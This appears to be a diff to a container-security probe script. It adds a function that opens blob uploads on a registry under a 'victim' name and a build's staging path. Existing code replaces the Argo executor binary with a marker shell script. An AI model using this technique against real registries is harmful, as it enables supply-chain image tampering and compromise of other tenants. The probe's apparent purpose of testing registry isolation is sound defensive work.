@@ -5,6 +5,7 @@ Runs there, with that container's Python, and not in the tests.
 
 from __future__ import annotations
 
+import http.client
 import json
 import os
 import shutil
@@ -24,6 +25,7 @@ def main() -> None:
     wanted = json.loads((HERE / "wanted.json").read_text())
     look(wanted)
     forge(wanted)
+    push(wanted)
     with tarfile.open(HERE / "forged.tar") as forged:
         forged.extractall(HERE)
     shutil.rmtree(WORKSPACE / "layout", ignore_errors=True)
@@ -92,6 +94,16 @@ def forge(wanted: dict) -> None:
     mine.write_text("#!/bin/sh\necho HOSTILE RAN\nexit 0\n")
     mine.chmod(0o755)
     mine.rename(ARGO / "argoexec")
+
+
+def push(wanted: dict) -> None:
+    """Straight into the registry: under another's name, and into a build's staging place."""
+    host, _, folder = wanted["prefix"].rstrip("/").partition("/")
+    for name in (f"{folder}/victim", f"{folder}/staging/build-victim", f"{folder}/{HERE.name}"):
+        connection = http.client.HTTPConnection(host, timeout=20)
+        connection.request("POST", f"/v2/{name}/blobs/uploads/", headers={"Content-Length": "0"})
+        print("PUSHED" if (status := connection.getresponse().status) < 400 else "REFUSED", status, name, flush=True)
+        connection.close()
 
 
 def end(step: str) -> None:
